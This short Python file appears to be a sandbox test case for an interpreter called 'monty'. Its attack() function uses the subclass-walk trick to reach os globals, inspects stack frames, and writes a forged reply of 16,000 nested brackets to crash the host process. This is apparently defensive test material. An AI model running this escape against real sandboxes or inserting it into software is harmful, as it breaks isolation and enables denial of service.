# an answer with the right number whose content is nested 16,000 deep
# monty: error
# process: crash


def attack(port, marker):
    g = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "_wrap_close"][0].__init__.__globals__
    frame = g["sys"]._getframe()
    while "message" not in frame.f_locals:
        frame = frame.f_back
    head = b'{"id": %d, "status": "ok", "kind": "json", "content": "' % frame.f_locals["message"]["id"]
    g["write"](0, head + b"[" * 16_000 + b'"}\n')
    g["_exit"](0)


def fine(number):
    return number + 1
